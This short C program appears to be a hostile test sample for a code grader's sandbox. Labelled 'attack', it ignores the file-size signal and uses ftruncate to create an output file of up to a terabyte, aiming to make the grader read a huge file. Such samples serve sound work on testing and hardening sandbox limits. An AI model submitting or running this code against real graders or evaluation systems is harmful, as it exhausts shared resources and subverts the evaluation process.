// Wants the grader to read a terabyte of nothing.
// attack: c file
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
  signal(SIGXFSZ, SIG_IGN);
  int fd = open("out.txt", O_CREAT | O_RDWR, 0666);
  for (long size = 1L << 40; size > 0 && ftruncate(fd, size); size /= 2) ;
  return 0;
}
